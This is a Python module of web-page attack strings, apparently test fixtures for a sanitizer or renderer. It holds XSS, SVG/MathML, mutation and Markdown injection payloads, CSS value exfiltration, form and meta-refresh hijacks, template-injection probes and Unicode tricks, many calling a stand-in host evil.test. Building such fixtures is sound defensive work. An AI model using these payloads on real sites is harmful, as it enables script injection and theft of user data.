"""Attacks on pages: each would run, ask or pop up somewhere if it were let through."""

# ruff: noqa: E501  (attacks are long lines)

from __future__ import annotations

import base64

_RUN = "window.hit=1"
_B64 = base64.b64encode(b"<script>parent.hit=1;alert(1)</script>").decode()

SCRIPTS = [
    "<script>window.hit=1;alert(1)</script>", "<SCRIPT>window.hit=1</SCRIPT>", "<script src=//evil.test/x.js></script>", "<script/x>window.hit=1</script>",
    "<script\n>window.hit=1</script\n>", "<scr<script>ipt>window.hit=1</scr</script>ipt>", "</script><script>window.hit=1</script>", "<script>window.hit=1",
    "<script type=module>import '//evil.test/x.js'</script>", "<script type=text/javascript>fetch('//evil.test/x')</script>", "<script>/*</script>*/window.hit=1</script>",
    "<script nomodule>window.hit=1</script>", "<script async src=data:text/javascript,window.hit=1></script>", "<<script>window.hit=1//<</script>",
    "<script>document.body.innerHTML='<img src=//evil.test/i>'</script>", "<script>navigator.sendBeacon('//evil.test/b')</script>", "<script>new WebSocket('ws://evil.test')</script>",
    "<script type=application/json onload=window.hit=1>{}</script>", "<script type=importmap>{\"imports\":{}}</script>", "<script>window.open('//evil.test')</script>",
]
EVENTS = [
    f"<{tag}{attributes} {event}={_RUN}>"
    for tag, attributes, event in (
        ("img", " src=x", "onerror"), ("img", " src=data:,", "onerror"), ("body", "", "onload"), ("body", "", "onpageshow"), ("body", "", "onresize"), ("input", " autofocus", "onfocus"), ("select", " autofocus", "onfocus"),
        ("textarea", " autofocus", "onfocus"), ("video", " src=x", "onerror"), ("audio", " src=x", "onerror"), ("video", "", "onloadstart"), ("details", " open", "ontoggle"), ("marquee", "", "onstart"), ("object", " data=x", "onerror"),
        ("iframe", " src=about:blank", "onload"), ("link", " rel=stylesheet href=x", "onerror"), ("style", "", "onload"), ("div", " style=animation:x", "onanimationstart"), ("p", " tabindex=1", "onfocus"), ("b", " contenteditable autofocus", "onfocus"),
        ("button", " popovertarget=x", "onbeforetoggle"), ("p", "", "onscrollsnapchange"), ("a", " id=x tabindex=1", "onfocusin"), ("table", " background=//evil.test/t", "onclick"), ("source", " src=x", "onerror"), ("track", " src=x", "onerror"), ("x", "", "onclick"),
    )
] + [
    "<img/src=x/onerror=window.hit=1>", "<img src=x\tonerror\n=\nwindow.hit=1>", "<img src=x onerror=&#119;indow.hit=1>", "<img \x00src=x onerror=window.hit=1>", "<img src='x' 'onerror=window.hit=1>", "<img src=`x` onerror=window.hit=1>",
    "\" onmouseover=window.hit=1 x=\"", "' onfocus=window.hit=1 autofocus x='", "\"><img src=x onerror=window.hit=1>", "'><img src=x onerror=window.hit=1>", "-->\"'><img src=x onerror=window.hit=1>", "><svg onload=window.hit=1>",
]
SVG = [
    "<svg onload=window.hit=1>", "<svg/onload=window.hit=1//", "<svg><script>window.hit=1</script></svg>", "<svg><script xlink:href=data:,window.hit=1 /></svg>", "<svg><animate onbegin=window.hit=1 attributeName=x dur=1s>",
    "<svg><set onbegin=window.hit=1 attributeName=x>", "<svg><a xlink:href=javascript:window.hit=1><text>x</text></a></svg>", "<svg><use href='data:image/svg+xml,<svg id=x onload=window.hit=1 />#x'/></svg>",
    "<svg><image href=//evil.test/i /></svg>", "<svg><foreignObject><body onload=window.hit=1></foreignObject></svg>", "<svg><style>@import '//evil.test/c'</style></svg>", "<svg><animate xlink:href=#x attributeName=href values=javascript:window.hit=1 /></svg>",
    "<svg><title><style><img src=x onerror=window.hit=1></style></title></svg>", "<svg><desc><p><img src=x onerror=window.hit=1>", "<svg></p><style><a title=\"</style><img src=x onerror=window.hit=1>\">",
]
MATH = [
    "<math><mi xlink:href=javascript:window.hit=1>x</mi></math>", "<math href=javascript:window.hit=1>x</math>", "<math><annotation-xml encoding=text/html><img src=x onerror=window.hit=1></annotation-xml></math>",
    "<math><mtext><table><mglyph><style><img src=x onerror=window.hit=1></style>", "<math><maction actiontype=statusline xlink:href=javascript:window.hit=1>x</maction></math>", "$\\href{javascript:window.hit=1}{x}$", "\\(\\unicode{<img src=x onerror=window.hit=1>}\\)",
    "$$\\require{html}\\href{//evil.test}{x}$$", "$\\includegraphics{//evil.test/i}$",
]
STYLES = [
    "<style>*{display:none}</style>", "<style>body{background:url(//evil.test/b)}</style>", "<style>@import url(//evil.test/c)</style>", "</style><style>*{color:transparent}", "<p style=background:url(//evil.test/p)>", "<p style='x:expression(window.hit=1)'>",
    "<p style=position:fixed;inset:0;background:#fff;z-index:9>", "<link rel=stylesheet href=//evil.test/s>", "<link rel=prefetch href=//evil.test/p>", "<link rel=preconnect href=//evil.test>", "<link rel=icon href=//evil.test/f>", "<div style=-moz-binding:url(//evil.test/b)>",
    "<style>@font-face{font-family:x;src:url(//evil.test/f)}*{font-family:x}</style>", "<style>input[value^=a]{background:url(//evil.test/a)}</style>", "}*{display:none}/*", "<style>@media print{body{display:none}}</style>",
]
FRAMES = [
    "<iframe src=javascript:parent.hit=1></iframe>", "<iframe srcdoc='<script>parent.hit=1</script>'></iframe>", "<iframe src=//evil.test></iframe>", f"<iframe src=data:text/html;base64,{_B64}></iframe>", f"<object data=data:text/html;base64,{_B64}></object>",
    "<embed src=//evil.test/e>", "<embed src=javascript:window.hit=1>", "<object data=//evil.test/o></object>", "<frameset onload=window.hit=1><frame src=//evil.test></frameset>", "<portal src=//evil.test></portal>", "<fencedframe src=//evil.test></fencedframe>",
    "<applet code=x codebase=//evil.test></applet>", "<noscript><p title='</noscript><img src=x onerror=window.hit=1>'></noscript>", "<template><script>window.hit=1</script></template>", "<template shadowrootmode=open><img src=x onerror=window.hit=1></template>", "<plaintext>", "<xmp><img src=x onerror=window.hit=1></xmp>",
]
ADDRESSES = [
    "<a href=javascript:window.hit=1>x</a>", "<a href='java\tscript:window.hit=1'>x</a>", "<a href=JaVaScRiPt:window.hit=1>x</a>", "<a href=&#106;avascript:window.hit=1>x</a>", "<a href=\x01javascript:window.hit=1>x</a>", "<a href=vbscript:x>x</a>", f"<a href=data:text/html;base64,{_B64}>x</a>",
    "<a href=//evil.test target=_blank>x</a>", "<a href=https://evil.test/x.html ping=//evil.test/p>x</a>", "<a href='../../../etc/passwd.html'>x</a>", "<a href=blob:https://evil.test/x>x</a>", "<area href=javascript:window.hit=1>", "<img src=//evil.test/i.png>", "<img src=https://evil.test/i.png>",
    "<img srcset='//evil.test/a 1x, //evil.test/b 2x'>", "<picture><source srcset=//evil.test/p><img src=data:,></picture>", "<img src='data:image/svg+xml,<svg onload=window.hit=1 xmlns=\"http://www.w3.org/2000/svg\"/>'>", "<video poster=//evil.test/v></video>", "<audio src=//evil.test/a autoplay></audio>",
    "<body background=//evil.test/b>", "<blockquote cite=//evil.test>x</blockquote>", "<img lowsrc=//evil.test/l dynsrc=//evil.test/d>", "<input type=image src=//evil.test/i>",
]
FORMS = [
    "<form action=//evil.test><input name=a></form>", "<form id=f action=javascript:window.hit=1><button autofocus>x</button></form>", "<button formaction=javascript:window.hit=1>x</button>", "<input type=submit formaction=//evil.test>", "<isindex action=//evil.test>", "<form><input name=attributes><input name=parentNode></form>",
    "<meta http-equiv=refresh content='0;url=//evil.test'>", "<meta http-equiv=refresh content='0;url=data:text/html,<script>alert(1)</script>'>", "<meta http-equiv=Set-Cookie content=a=b>", "<meta name=referrer content=unsafe-url>", "<base href=//evil.test/>", "<base target=_blank>", "<meta charset=utf-7>+ADw-script+AD4-window.hit=1+ADw-/script+AD4-",
    "<html manifest=//evil.test/m>", "<a id=hit>clobber</a>", "<img name=body id=document>",
]
MUTATIONS = [
    "<listing>&lt;img src=x onerror=window.hit=1&gt;</listing>", "<math><mtext></p><style><img src=x onerror=window.hit=1></style>", "<p id='</p><img src=x onerror=window.hit=1>'>", "<table><td><form><table><tr><form><style></table></style><img src=x onerror=window.hit=1>",
    "<svg><p><style><!--</style><img src=x onerror=window.hit=1>-->", "<!--><img src=x onerror=window.hit=1>-->", "<!--x--!><img src=x onerror=window.hit=1>", "<![CDATA[><img src=x onerror=window.hit=1>]]>", "<?xml version='1.0'?><?php <img src=x onerror=window.hit=1> ?>", "<!DOCTYPE x [<!ENTITY y '<img src=x onerror=window.hit=1>'>]>&y;",
    "<a title='--><img src=x onerror=window.hit=1>'>", "<b title=\"&quot;><img src=x onerror=window.hit=1>\">", "</title><img src=x onerror=window.hit=1>", "</textarea><img src=x onerror=window.hit=1>", "</pre></main></body></html><script>window.hit=1</script>", "&lt;img src=x onerror=window.hit=1&gt;", "&amp;lt;script&amp;gt;window.hit=1&amp;lt;/script&amp;gt;",
    "\uff1cscript\uff1ewindow.hit=1\uff1c/script\uff1e", "\u02bascript\u02ba", "%3Cscript%3Ewindow.hit=1%3C/script%3E", "\\x3cscript\\x3ewindow.hit=1\\x3c/script\\x3e", "\\u003cimg src=x onerror=window.hit=1\\u003e",
]
MARKDOWN = [
    "[x](javascript:window.hit=1)", "![x](//evil.test/i.png)", "![x](javascript:window.hit=1)", "[x]: javascript:window.hit=1\n[x]", "<javascript:window.hit=1>", "<https://evil.test/x>", "[x](data:text/html;base64,PHNjcmlwdD4=)", "[a](<javascript:window.hit=1>)", "```html\n<script>window.hit=1</script>\n```",
    "[x](//evil.test \"onmouseover=window.hit=1\")", "![\"onerror=window.hit=1 x=\"](x)", "# <img src=x onerror=window.hit=1>", "| a |\n|---|\n| <img src=x onerror=window.hit=1> |", "{{7*7}}", "{% include '/etc/passwd' %}", "{{ ''.__class__.__mro__ }}", "${7*7}", "#{7*7}", "<%= 7*7 %>", "{{constructor.constructor('window.hit=1')()}}", "{{ page.style | safe }}", "{% raw %}<img src=x onerror=window.hit=1>",
]
CHARACTERS = [
    "\u202egnp.txt\u202c<img src=x onerror=window.hit=1>", "\u2066a\u2069\u2067b", "\u200b<scr\u200bipt>window.hit=1</script>", "\ufeff<script>window.hit=1</script>", "<\x00script>window.hit=1</script>", "\x00\x01\x02\x1b[31mred", "<img src=x onerror=window.hit=1>\ud800", "\udfff\udfff", "\U000e0069\U000e0067\U000e006e\U000e006f\U000e0072\U000e0065",
    "a" + "\u0301" * 40, "\u2028window.hit=1\u2029", "\x85\x0b\x0c", "\u034f\u115f\u3164\uffa0", "\u061c\u200e\u200f", "\ufff9x\ufffay\ufffb", "\U0001f468\u200d\U0001f469\u200d\U0001f467", "\xad<\xadimg src=x onerror=window.hit=1>", "\r<img src=x onerror=window.hit=1>\r", "\ue000\U0010ffff\ufffe", "\ufe00\ufe0f\U000e0100",
]
PAYLOADS = [*SCRIPTS, *EVENTS, *SVG, *MATH, *STYLES, *FRAMES, *ADDRESSES, *FORMS, *MUTATIONS, *MARKDOWN, *CHARACTERS]
